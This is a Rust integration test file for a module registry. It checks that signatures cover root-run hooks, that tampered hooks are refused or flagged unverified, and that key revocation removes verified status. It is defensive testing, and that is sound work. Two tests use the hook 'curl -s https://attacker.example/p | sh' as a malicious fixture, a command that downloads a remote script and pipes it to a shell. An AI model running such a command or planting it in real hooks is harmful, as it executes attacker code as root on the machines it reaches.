//! What a module signature vouches for and how the registry reports it:
//! hooks (commands agents run as root) are bound by the second statement
//! form, and `signed` / `signatureStatus` say whether the signature verifies
//! against a trusted key, not merely whether one was sent.

use awc::http::StatusCode;
use hotswap::crypto::sha256_hex;
use hotswap_actors::domain::{AuditActor, AuditCategory, NewAuditEntry, DEFAULT_TENANT};
use serde_json::{json, Value};

use crate::registry_support::*;
use crate::support::spawn_app;

/// The statement for a descriptor with `hooks_json` (its canonical JSON),
/// written out by hand as docs/SECURITY.md describes it.
fn statement_v2(name: &str, version: &str, artifact: &[u8], hooks_json: &str) -> String {
    format!(
        "hotswap-module-signature-v2\nname={name}\nversion={version}\nsha256={}\nhooks={}\n",
        sha256_hex(artifact),
        sha256_hex(hooks_json.as_bytes())
    )
}

fn statement_v1(name: &str, version: &str, artifact: &[u8]) -> String {
    format!("hotswap-module-signature-v1\nname={name}\nversion={version}\nsha256={}\n", sha256_hex(artifact))
}

fn with_hooks(name: &str, version: &str, hooks: Value) -> Value {
    let mut d = descriptor(name, version);
    d["hooks"] = hooks;
    d
}

#[actix_web::test]
async fn hooks_are_bound_by_the_signature_and_shown() {
    // As in production: strict, and only statements count.
    let app = spawn_app(&[STRICT[0], STRICT[1], ("HOTSWAP__SECURITY__ACCEPT_ARTIFACT_SIGNATURES", "false")]).await;
    let key = KeyPair::generate();
    trust(&app, "release", &key).await;
    let artifact = unique_artifact("kmod-hooked");
    let hooks = json!({ "activate": "insmod \"$HOTSWAP_ARTIFACT\"", "health": "true" });
    let canonical = r#"{"activate":"insmod \"$HOTSWAP_ARTIFACT\"","health":"true"}"#;

    // A signature of the first form says nothing of hooks: refused for a descriptor with hooks.
    let v1 = key.sign(statement_v1("kmod-hooked", "1.0.0", &artifact).as_bytes());
    let (status, reply) = upload(&app, &with_hooks("kmod-hooked", "1.0.0", hooks.clone()), &artifact, Some(&v1)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    assert!(reply["message"].as_str().unwrap().contains("hooks"), "{reply}");

    // Signed with its hooks: stored, verified, and the hooks are shown.
    let v2 = key.sign(statement_v2("kmod-hooked", "1.0.0", &artifact, canonical).as_bytes());
    let (status, reply) = upload(&app, &with_hooks("kmod-hooked", "1.0.0", hooks.clone()), &artifact, Some(&v2)).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert_eq!(
        (reply["signed"].clone(), reply["signatureStatus"].clone()),
        (json!(true), json!("verified")),
        "{reply}"
    );
    let (_, shown) = app.get("/api/v1/modules/kmod-hooked/1.0.0").await;
    assert_eq!(shown["hooks"], hooks, "{shown}");
    let (_, listed) = app.get("/api/v1/modules/kmod-hooked").await;
    assert_eq!(listed["versions"][0]["hooks"], hooks, "{listed}");

    // The same artifact and a valid signature for good hooks, sent with other hooks: refused.
    let good = key.sign(statement_v2("kmod-hooked", "1.0.1", &artifact, canonical).as_bytes());
    let evil = json!({ "activate": "curl -s https://attacker.example/p | sh", "health": "true" });
    let (status, reply) = upload(&app, &with_hooks("kmod-hooked", "1.0.1", evil), &artifact, Some(&good)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    // A module without hooks still verifies with the first form, and shows no hooks.
    let plain = unique_artifact("kmod-plain");
    let v1 = key.sign(statement_v1("kmod-plain", "1.0.0", &plain).as_bytes());
    let (status, reply) = upload(&app, &descriptor("kmod-plain", "1.0.0"), &plain, Some(&v1)).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert_eq!(reply["hooks"], json!({}), "{reply}");

    // Hooks changed in the store after the upload: the Security Scan refuses the version.
    let store = app.orchestrator.store();
    let audit = || NewAuditEntry::new(DEFAULT_TENANT, AuditActor::system(), AuditCategory::ModuleRegistry, "TestSetup");
    let mut stored = store.get_module_version(DEFAULT_TENANT, "kmod-hooked", "1.0.0").await.unwrap().unwrap();
    store.delete_module_version(DEFAULT_TENANT, "kmod-hooked", "1.0.0", &audit()).await.unwrap();
    stored.descriptor.hooks.activate = Some("curl -s https://attacker.example/p | sh".into());
    store.add_module_version(&stored, &audit()).await.unwrap();
    let (_, shown) = app.get("/api/v1/modules/kmod-hooked/1.0.0").await;
    assert_eq!(shown["signatureStatus"], "unverified", "{shown}");
    let id = app.deploy("kmod-hooked", "1.0.0", "Development", json!({})).await;
    let run = app.finished(&id).await;
    assert_eq!(run["status"], "Failed", "{run:#}");
    let scan = crate::support::stage(&run, "Security Scan");
    assert!(scan["message"].as_str().unwrap().contains("does not verify"), "{run:#}");
}

#[actix_web::test]
async fn signed_means_verified_against_a_trusted_key() {
    // Strict mode off (the test profile): unverified signatures are let in with a warning.
    let app = spawn_app(&[]).await;
    let key = KeyPair::generate();
    let id = trust(&app, "release", &key).await;
    let stranger = KeyPair::generate();

    let good = unique_artifact("kmod-sig-good");
    let (status, reply) = upload(&app, &descriptor("kmod-sig-good", "1.0.0"), &good, Some(&key.sign(&good))).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert_eq!((reply["signed"].clone(), reply["signatureStatus"].clone()), (json!(true), json!("verified")));

    let other = unique_artifact("kmod-sig-other");
    let (status, reply) =
        upload(&app, &descriptor("kmod-sig-other", "1.0.0"), &other, Some(&stranger.sign(&other))).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert!(!reply["warnings"].as_array().unwrap().is_empty(), "{reply}");
    assert_eq!((reply["signed"].clone(), reply["signatureStatus"].clone()), (json!(false), json!("unverified")));

    let none = unique_artifact("kmod-sig-none");
    let (status, reply) = upload(&app, &descriptor("kmod-sig-none", "1.0.0"), &none, None).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert_eq!((reply["signed"].clone(), reply["signatureStatus"].clone()), (json!(false), json!("none")));

    // A bare signature never covers hooks.
    let hooked = unique_artifact("kmod-sig-hooks");
    let d = with_hooks("kmod-sig-hooks", "1.0.0", json!({ "activate": "true" }));
    let (status, reply) = upload(&app, &d, &hooked, Some(&key.sign(&hooked))).await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    assert_eq!(reply["signatureStatus"], "unverified", "{reply}");

    // Revoking the key: what it signed no longer reads as verified.
    let (status, _) = app.post(&format!("/api/v1/signing-keys/{id}/revoke"), &json!({})).await;
    assert_eq!(status, StatusCode::OK);
    let (_, shown) = app.get("/api/v1/modules/kmod-sig-good/1.0.0").await;
    assert_eq!((shown["signed"].clone(), shown["signatureStatus"].clone()), (json!(false), json!("unverified")));
}
